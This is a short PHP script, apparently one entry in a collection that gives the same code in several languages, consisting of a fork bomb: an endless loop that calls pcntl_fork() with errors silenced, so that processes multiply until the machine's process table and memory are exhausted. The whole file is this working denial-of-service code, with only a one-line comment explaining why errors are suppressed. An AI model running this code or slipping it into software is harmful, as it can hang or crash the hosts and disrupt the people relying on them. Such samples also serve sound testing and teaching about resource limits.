<?php
// @: a refused fork's warning would flood stderr, as the Python case catches its OSError.
while (true) {
    @pcntl_fork();
}
